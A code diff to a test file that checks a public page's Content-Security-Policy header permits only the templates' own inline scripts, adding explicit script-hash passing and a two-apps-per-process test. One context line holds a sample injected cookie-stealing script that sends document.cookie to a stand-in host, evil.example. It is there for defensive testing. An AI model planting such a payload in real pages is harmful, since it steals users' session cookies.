@@ -50,7 +50,7 @@ describe("public page CSP allows only the templates' own scripts", () => {
     expect(templateScript).toContain('time zone');
     const injected = 'fetch("https://evil.example/?c=" + document.cookie)';
     const body = Buffer.from(charts.body.replace('</main>', `<p><script>${injected}</script></p></main>`));
-    const csp = publicHeaders('text/html; charset=utf-8', body)['content-security-policy'];
+    const csp = publicHeaders('text/html; charset=utf-8', body, t.app.views.scriptHashes)['content-security-policy'];
     expect(csp).not.toContain(hashOf(injected));
     // The template's own script still runs.
     expect(csp).toContain(hashOf(templateScript));
@@ -91,8 +91,29 @@ describe("public page CSP allows only the templates' own scripts", () => {
   });
 
   it('does not allow an injected script on a page that has none of its own', () => {
-    const csp = publicHeaders('text/html; charset=utf-8', Buffer.from('<!doctype html><main><script>alert(1)</script></main>'))['content-security-policy'];
+    const csp = publicHeaders('text/html; charset=utf-8', Buffer.from('<!doctype html><main><script>alert(1)</script></main>'), t.app.views.scriptHashes)[
+      'content-security-policy'
+    ];
     expect(csp).toContain("script-src 'none'");
+  });
+
+  it('allows the scripts of the views it is given, not of whichever app loaded views last (two apps, one process)', async () => {
+    const charts = await t.app.inject({ method: 'GET', url: '/heartbeat' });
+    const [templateScript] = inlineScripts(charts.body);
+    const body = Buffer.from(charts.body);
+    // Views without this script (another app's) allow none of it, whatever this app loaded.
+    expect(publicHeaders('text/html; charset=utf-8', body, new Set())['content-security-policy']).toContain("script-src 'none'");
+    expect(publicHeaders('text/html; charset=utf-8', body, t.app.views.scriptHashes)['content-security-policy']).toContain(hashOf(templateScript));
+    // A second app in the same process, started and closed: the first still allows its own scripts.
+    const other = await startTestApp();
+    try {
+      const theirs = await other.app.inject({ method: 'GET', url: '/heartbeat' });
+      expect(String(theirs.headers['content-security-policy'])).toContain(hashOf(inlineScripts(theirs.body)[0]));
+    } finally {
+      await other.close();
+    }
+    const ours = await t.app.inject({ method: 'GET', url: '/heartbeat?range=1h' });
+    expect(String(ours.headers['content-security-policy'])).toContain(hashOf(inlineScripts(ours.body)[0]));
   });
 });
 
